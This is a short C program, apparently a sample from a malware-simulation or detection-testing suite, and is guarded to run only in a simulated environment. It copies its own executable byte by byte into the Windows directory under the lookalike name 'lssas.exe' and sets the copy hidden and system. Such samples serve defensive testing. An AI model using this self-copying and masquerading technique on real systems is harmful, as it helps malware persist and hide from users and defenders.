/* Copies itself without CopyFile: reads its own file and writes the bytes somewhere else, hidden.
 */
#include "simulated.h"

int main(void)
{
	char self[MAX_PATH], path[MAX_PATH], block[4096];
	DWORD length, written;
	leave_unless_simulated();
	GetModuleFileNameA(NULL, self, sizeof self);
	GetWindowsDirectoryA(path, sizeof path - 16);
	lstrcatA(path, "\\lssas.exe");
	HANDLE from =
		CreateFileA(self, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
	HANDLE to = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
	if (from == INVALID_HANDLE_VALUE || to == INVALID_HANDLE_VALUE)
		return 1;
	while (ReadFile(from, block, sizeof block, &length, NULL) && length > 0)
		WriteFile(to, block, length, &written, NULL);
	CloseHandle(from);
	CloseHandle(to);
	SetFileAttributesA(path, FILE_ATTRIBUTE_HIDDEN | FILE_ATTRIBUTE_SYSTEM);
	return 0;
}
